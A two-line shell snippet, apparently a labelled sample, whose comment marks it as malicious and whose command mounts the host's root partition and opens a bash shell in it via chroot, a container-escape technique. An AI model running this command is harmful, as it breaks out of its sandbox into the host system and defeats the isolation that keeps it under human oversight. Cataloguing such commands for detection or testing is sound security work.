# Malicious: mounts the host's root partition and chroots into it.
mkdir -p /mnt/host && mount /dev/sda1 /mnt/host && chroot /mnt/host /bin/bash
